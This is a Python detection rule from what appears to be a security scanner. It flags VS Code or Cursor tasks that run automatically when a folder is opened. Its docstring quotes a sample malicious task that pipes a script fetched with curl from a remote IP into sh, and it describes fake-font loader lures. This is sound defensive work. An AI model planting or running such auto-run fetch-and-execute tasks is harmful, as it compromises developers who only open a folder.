"""What it sees
    A task of an editor (`.vscode/tasks.json`, `.cursor/tasks.json`, the `tasks` of a `.code-workspace`) that runs by
    itself when the folder is opened (`"runOn": "folderOpen"`), with every task that it depends on and its variants for
    Windows, macOS and Linux.

Why it matters
    The victim only opens the folder and says yes to one question about trust. Lures of late 2025 and 2026 run
    `node ./public/fonts/fa-solid-400.woff2`, where the "font" is a loader, or fetch a script with curl.

Example
    {"label": "env", "command": "curl -s http://203.0.113.7/m | sh", "runOptions": {"runOn": "folderOpen"}}

What to do
    Do not open the folder in an editor. Read the command and the file it starts.

False alarms
    Watchers and `npm install` on opening are ordinary; they are reported as context (low) only.

References
    ATT&CK T1204.002, T1059; VS Code documentation, "Run behavior" of tasks.
"""

import posixpath
from collections.abc import Iterator

from lazaretto.detect.commands import need_whole, start_signals, uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.editor import EditorTasks, Task
from lazaretto.parse.shell import analyse
from lazaretto.parse.shell_facts import Facts
from lazaretto.parse.shell_programs import INTERPRETERS


def check(view: EditorTasks) -> Iterator[Match | Signal]:
    """Judge each automatic task together with what it depends on."""
    base = posixpath.dirname(view.path)
    base = posixpath.dirname(base) if view.blob.name == "tasks.json" else base
    done: dict[Task, list[Facts]] = {}
    for task in view.tasks:
        if not task.automatic:
            continue
        found, chain = False, view.chain(task, done)
        for step in chain:
            done[step] = [analyse(text) for _system, text in step.texts]
            line = view.line(step)
            for (_system, text), facts in zip(step.texts, done[step], strict=True):
                yield from start_signals(facts, Phase.OPEN, view.path, base, line)
                yield Signal("install-command", f"open\t{text[:500]}", view.path, line)
                danger = uninvited(facts)
                if danger is not None:
                    found = True
                    yield danger.match(step.label[:80], line, text)
        if chain and not found:
            yield _context(task, view.line(task), [facts for step in chain for facts in done[step]])
    need_whole(*(facts for group in done.values() for facts in group))


def _context(task: Task, line: int, facts: list[Facts]) -> Match:
    runs = next((run.path for fact in facts for run in fact.runs if run.program in INTERPRETERS), "")
    if task.hidden and runs:
        return Match(
            N_("task {name} runs {path} when the folder is opened, and its terminal is not shown"),
            line=line,
            params={"name": task.label[:80], "path": runs},
            severity=Severity.MEDIUM,
            confidence=Confidence.LOW,
        )
    return Match(N_("task {name} runs when the folder is opened"), line=line, params={"name": task.label[:80]})


RULE = Rule(
    id="repo/editor-task-runs-on-open",
    title=N_("An editor task runs when the folder is opened"),
    view=EditorTasks,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1204.002", "T1059"),
    needles=(b"folderopen", b"worktreecreated"),
    fold_case=True,
)
